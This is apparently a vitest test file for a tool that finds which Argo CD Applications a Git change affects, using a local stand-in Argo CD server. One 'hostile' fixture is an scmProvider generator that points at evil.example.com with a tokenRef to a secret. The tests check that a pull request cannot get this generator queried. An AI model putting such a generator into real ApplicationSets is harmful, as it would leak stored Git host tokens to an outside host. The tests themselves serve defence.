import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { affected } from '../../src/commands/affected/affected.js';
import { isJsonObject, type Json, type JsonObject } from '../../src/core/json.js';
import { readSettings } from '../../src/settings.js';
import { commitAll, createClone } from '../support/author.js';
import { createRealClock } from '../support/real-clock.js';
import { scratchFolder, type Cleanup } from '../support/world.js';

const repoURL = 'https://git.example.com/org/config';
const set = (generators: string, { name, path = 'apps/web', go = true }: { readonly name: string; readonly path?: string; readonly go?: boolean }): string => `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: all, namespace: argocd}
spec:
  goTemplate: ${go}
  generators: [${generators}]
  template:
    metadata: {name: '${name}'}
    spec: {project: shop, source: {repoURL: ${repoURL}, path: '${path}'}, destination: {server: https://kubernetes.default.svc}}
`;

/** A server that generates. What it is asked is kept; `answer` gives the Applications, or why there are none. */
async function startServer(context: Cleanup, answer: (generator: JsonObject, template: string) => readonly Json[] | string): Promise<{ readonly url: string; readonly asked: readonly JsonObject[] }> {
  const asked: JsonObject[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => { body += String(chunk); });
    request.on('end', () => {
      const given = (JSON.parse(body) as { readonly applicationSet: { readonly spec: { readonly generators: readonly [JsonObject]; readonly template: { readonly metadata: { readonly name: string } } } } }).applicationSet;
      asked.push(given.spec.generators[0]);
      const answered = answer(given.spec.generators[0], given.spec.template.metadata.name);
      response.writeHead(typeof answered === 'string' ? 403 : 200, { 'Content-Type': 'application/json' });
      response.end(JSON.stringify(typeof answered === 'string' ? { error: answered, code: 7, message: answered } : { applications: answered }));
    });
  });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  context.onTestFinished(async () => { await new Promise((resolve) => { server.close(resolve); server.closeAllConnections(); }); });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

/** As Argo CD 3.5 answers a question for parameters. */
const parameters = (...sets: readonly JsonObject[]): readonly Json[] => sets.map((one) => ({ metadata: { name: 'asked', annotations: { 'osop/parameters': JSON.stringify(one) } }, spec: { project: 'shop', destination: {} }, status: {} }));
const application = (name: string, path: string): Json => ({ metadata: { name }, spec: { project: 'shop', source: { repoURL, path }, destination: {} }, status: {} });
const clusters = parameters(
  { name: 'eu', server: 'https://eu.example.com', project: '', labels: { env: 'prod', 'argocd.argoproj.io/secret-type': 'cluster' }, annotations: {} },
  { name: 'in-cluster', server: 'https://kubernetes.default.svc', project: '', labels: {}, annotations: {} },
);

interface Story {
  /** Files of the commit before, and what the change makes of them. */
  readonly before: Readonly<Record<string, string>>;
  readonly after: Readonly<Record<string, string>>;
  /** A pull request; else the push to the branch. */
  readonly proposed?: boolean;
}

async function look(context: Cleanup, { before, after, proposed = false }: Story, inputs: Readonly<Record<string, string>>): Promise<Awaited<ReturnType<typeof affected>>> {
  const folder = scratchFolder(context);
  let head = '';
  createClone(folder);
  for (const files of [before, after]) {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    head = commitAll(folder, { message: 'x' });
  }
  const event = proposed ? { GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/7/merge', GITHUB_BASE_REF: 'main' } : { GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main' };
  const { settings, problems } = await readSettings({ command: 'affected', base: 'HEAD~1', 'argocd-auth-token': 'e30.e30.ci', 'config-repository': repoURL, 'config-branch': 'main', ...inputs }, {});
  if (settings === undefined) return { kind: 'invalid-input', problems };
  const env = { PATH: process.env['PATH'], HOME: folder, GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'org/config', GITHUB_SHA: head, ...event };
  return await affected(settings, { env, clock: createRealClock(), signal: new AbortController().signal, folder });
}

test('clusters are asked of the server, of folders that the change brings along too', async (context) => {
  const server = await startServer(context, (generator) => (isJsonObject(generator['clusters']) ? clusters : 'asked for something else'));
  const matrix = `{matrix: {generators: [{git: {repoURL: ${repoURL}, revision: HEAD, directories: [{path: 'apps/*'}]}}, {clusters: {selector: {matchLabels: {env: prod}}}}]}}`;
  const story = { before: { 'sets/all.yaml': set(matrix, { name: '{{.path.basename}}-{{.name}}', path: '{{.path.path}}' }), 'apps/web/a.yaml': 'a: 1' }, after: { 'apps/new/a.yaml': 'a: 1' } };
  expect(await look(context, story, { 'argocd-server': server.url })).toMatchObject({ kind: 'told', exitCode: 0, report: { affected: ['new-eu'], rows: [{ id: 'new-eu', change: 'added' }], problems: [] } });
  expect(server.asked).toEqual([{ clusters: {} }]);
  expect(await look(context, story, {}), 'without a server').toMatchObject({ exitCode: 2, report: { problems: [{ code: 'OSOP-APP-001', message: expect.stringContaining('asks Argo CD for its clusters') }] } });
});

test('Argo CD\'s own cluster is one of them, without labels', async (context) => {
  const server = await startServer(context, () => clusters);
  const story = { before: { 'sets/all.yaml': set('{clusters: {}}', { name: 'web-{{name}}', go: false }), 'apps/web/a.yaml': 'a: 1' }, after: { 'apps/web/a.yaml': 'a: 2' } };
  expect(await look(context, story, { 'argocd-server': server.url })).toMatchObject({ report: { affected: ['web-eu', 'web-in-cluster'] } });
  const labelled = { ...story, before: { ...story.before, 'sets/all.yaml': set('{clusters: {selector: {matchLabels: {argocd.argoproj.io/secret-type: cluster}}}}', { name: 'web-{{name}}', go: false }) } };
  expect(await look(context, labelled, { 'argocd-server': server.url })).toMatchObject({ report: { affected: ['web-eu'] } });
});

test('a template that is not known here is filled in by the server', async (context) => {
  const server = await startServer(context, (_generator, template) => (template.includes('sha256sum') ? [application('web-ba78', 'apps/web')] : 'asked for something else'));
  const before = { 'sets/all.yaml': set('{list: {elements: [{app: abc}]}}', { name: 'web-{{.app | sha256sum | trunc 4}}' }), 'apps/web/a.yaml': 'a: 1' };
  expect(await look(context, { before, after: { 'apps/web/a.yaml': 'a: 2' } }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 0, report: { affected: ['web-ba78'], problems: [] } });
  expect(server.asked).toEqual([{ list: { elements: [{ app: 'abc' }] } }]);
});

test('one that reads the files of the change is not: the server has them without the change', async (context) => {
  const server = await startServer(context, () => [application('stale', 'apps/web')]);
  const before = { 'sets/all.yaml': set(`{git: {repoURL: ${repoURL}, revision: HEAD, directories: [{path: 'apps/*'}]}}`, { name: '{{.path.basename | sha256sum}}', path: '{{.path.path}}' }), 'apps/web/a.yaml': 'a: 1' };
  expect(await look(context, { before, after: { 'apps/new/a.yaml': 'a: 1' } }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 2, report: { problems: [{ code: 'OSOP-APP-001' }] } });
  expect(server.asked).toEqual([]);
});

test('what the server refuses to tell is not known, with its reason', async (context) => {
  const server = await startServer(context, () => 'permission denied: applicationsets, create, shop/all, sub: ci');
  const story = { before: { 'sets/all.yaml': set('{clusters: {}}', { name: 'web-{{.name}}' }), 'apps/web/a.yaml': 'a: 1' }, after: { 'apps/web/a.yaml': 'a: 2' } };
  expect(await look(context, story, { 'argocd-server': server.url })).toMatchObject({ exitCode: 2, report: { problems: [{ code: 'OSOP-APP-001', message: expect.stringMatching(/^(?!.*did not tell.*did not tell).*asks Argo CD for its clusters, and the server did not tell: .*permission denied: applicationsets, create/) }] } });
  expect(server.asked).toEqual([{ clusters: {} }]);
});

test('a server without a credential is no server, where it is needed', async (context) => {
  const story = (generators: string): Story => ({ before: { 'sets/all.yaml': set(generators, { name: 'web-{{.name}}' }), 'apps/web/a.yaml': 'a: 1' }, after: { 'apps/web/a.yaml': 'a: 2' } });
  const inputs = { 'argocd-server': 'https://127.0.0.1:1', 'argocd-auth-token': '' };
  expect(await look(context, story('{clusters: {}}'), inputs)).toMatchObject({ kind: 'invalid-input', problems: [{ code: 'OSOP-INPUT-003' }] });
  expect(await look(context, story('{list: {elements: [{name: x}]}}'), inputs)).toMatchObject({ kind: 'told', exitCode: 0 });
});

const hostile = '{scmProvider: {gitea: {owner: org, api: "https://evil.example.com", tokenRef: {secretName: tokens, key: gitea}}}}';

test('a server is not asked about a generator that a pull request brings along', async (context) => {
  const server = await startServer(context, (generator) => (isJsonObject(generator['clusters']) ? clusters : parameters({ repository: 'web' })));
  const after = { 'sets/all.yaml': set(`${hostile}, {clusters: {}}`, { name: 'web-{{.name}}{{.repository}}' }) };
  const before = { 'sets/all.yaml': set('{list: {elements: [{name: x, repository: y}]}}', { name: 'web-{{.name}}{{.repository}}' }), 'apps/web/a.yaml': 'a: 1' };
  expect(await look(context, { before, after, proposed: true }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 2, report: { problems: [{ code: 'OSOP-APP-001', message: expect.stringContaining('a git host for its repositories, and it is new in this change: a server is asked about it only once it is on the branch') }] } });
  expect(server.asked).toEqual([{ clusters: {} }]);
});

test('and is once it is on the branch, or was there before', async (context) => {
  const server = await startServer(context, () => parameters({ repository: 'web' }));
  const before = { 'sets/all.yaml': set(hostile, { name: '{{.repository}}' }), 'apps/web/a.yaml': 'a: 1' };
  const generator = { scmProvider: { gitea: { owner: 'org', api: 'https://evil.example.com', tokenRef: { secretName: 'tokens', key: 'gitea' } } } };
  expect(await look(context, { before, after: { 'apps/web/a.yaml': 'a: 2' }, proposed: true }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 0, report: { affected: ['web'] } });
  expect(await look(context, { before: { 'apps/web/a.yaml': 'a: 1' }, after: before }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 0, report: { affected: ['web'] } });
  expect(server.asked).toEqual([generator, generator]);
});

test('a git generator of another repository is asked of the server', async (context) => {
  const server = await startServer(context, (generator) => (isJsonObject(generator['git']) ? parameters({ path: { path: 'teams/a', basename: 'a', basenameNormalized: 'a', segments: ['teams', 'a'] } }) : 'asked for something else'));
  const before = { 'sets/all.yaml': set('{git: {repoURL: https://git.example.com/org/teams, revision: HEAD, directories: [{path: teams/*}], values: {v: "{{.path.basename}}!"}}}', { name: 'web-{{.path.basename}}', path: 'apps/{{.values.v}}' }), 'apps/a!/a.yaml': 'a: 1' };
  expect(await look(context, { before, after: { 'apps/a!/a.yaml': 'a: 2' } }, { 'argocd-server': server.url })).toMatchObject({ exitCode: 0, report: { affected: ['web-a'] } });
});
